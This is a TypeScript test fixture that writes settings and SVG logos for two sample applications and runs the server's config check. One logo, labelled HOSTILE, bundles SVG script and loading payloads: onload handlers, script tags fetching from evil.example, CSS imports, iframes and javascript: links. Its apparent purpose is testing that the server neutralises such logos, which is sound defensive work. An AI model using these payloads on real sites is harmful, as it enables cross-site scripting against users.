// Two applications on one server, each with a face of its own.

import { execFile } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { binary } from "./service.ts";

export interface Application {
  readonly id: string;
  readonly name: string;
  readonly host: string;
  readonly color: string;
  readonly sender: string;
  readonly support: string;
  readonly privacy: string;
  readonly imprint: string;
  readonly logIn: string;
  readonly logo: string;
}

export function application(name: string, color: string, logo: string): Application {
  const id = name.toLowerCase().replace(/\W+/g, "-");
  const site = `https://${id}.example`;
  return {
    id,
    name,
    color,
    logo,
    host: `${id}.localhost`,
    sender: `hello@${id}.example`,
    support: `${site}/help`,
    privacy: `${site}/privacy`,
    imprint: `${site}/imprint`,
    logIn: `${site}/login`,
  };
}

/** A plain square: the name stands beside it. */
const SQUARE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path fill="#8a1538" d="M5 0l5 10H0z"/></svg>`;

/** Whatever could run or load something, in one picture that can be drawn all the same. */
export const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  viewBox="0 0 10 10" onload="document.title='run'">
  <script>document.title='run';fetch('https://evil.example/script')</script>
  <script href="https://evil.example/x.js"/>
  <style>@import url(https://evil.example/x.css); path { cursor: url(https://evil.example/x.cur) }</style>
  <image href="https://evil.example/x.png" width="9" height="9"/>
  <image xlink:href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E" width="9" height="9"/>
  <use href="https://evil.example/x.svg#a"/>
  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="document.title='run'">
    <iframe src="https://evil.example/"/><img src="https://evil.example/y.png" onerror="document.title='run'"/></body></foreignObject>
  <a href="javascript:document.title='run'"><path fill="#1a5fb4" d="M0 0h10v10H0z"/></a>
  <set attributeName="onmouseover" to="document.title='run'"/>
  <animate attributeName="href" values="javascript:alert(1)"/>
</svg>`;

export const ACME = application("Acme Shop", "#8a1538", SQUARE);
export const TRAM = application("City Tram", "#1a5fb4", HOSTILE);

/** Writes their settings; returns the file. */
export async function makeApplications(
  folder: string,
  applications: readonly Application[] = [ACME, TRAM],
): Promise<string> {
  const lines: string[] = [];
  for (const one of applications) {
    const logo = join(folder, `${one.id}.svg`);
    await writeFile(logo, one.logo);
    lines.push(
      "[[application]]",
      `name = "${one.name}"`,
      `host = "${one.host}"`,
      `color = "${one.color}"`,
      `logo = "${logo}"`,
      `sender = "${one.name} <${one.sender}>"`,
      `reply_to = "${one.sender}"`,
      `support = "${one.support}"`,
      `privacy = "${one.privacy}"`,
      `imprint = "${one.imprint}"`,
      `return_url = "${one.logIn}"`,
      `allowed_next = "${one.logIn}"`,
      "",
    );
  }
  const file = join(folder, "applications.toml");
  await writeFile(file, lines.join("\n"));
  return file;
}

/** These applications, each in the nearest colour that the program accepts: it says so itself. */
export async function makeInAcceptedColors(
  folder: string,
  applications: readonly Application[],
): Promise<string> {
  const asked = await makeApplications(folder, applications);
  const said = await check(asked, folder);
  const accepted = applications.map((one) => {
    const line = said.split("\n").find((line) => line.includes(`color of the application ${one.name} is`));
    const color = /nearest that can be is (#[0-9a-f]{6})/.exec(line ?? "")?.[1];
    return color ? { ...one, color } : one;
  });
  return makeApplications(folder, accepted);
}

/** What `check` says of a file of settings. */
function check(file: string, folder: string): Promise<string> {
  return new Promise((done) => {
    execFile(binary, ["--config", file, "check"], { cwd: folder, env: {} }, (_, stdout, stderr) =>
      done(stdout + stderr),
    );
  });
}
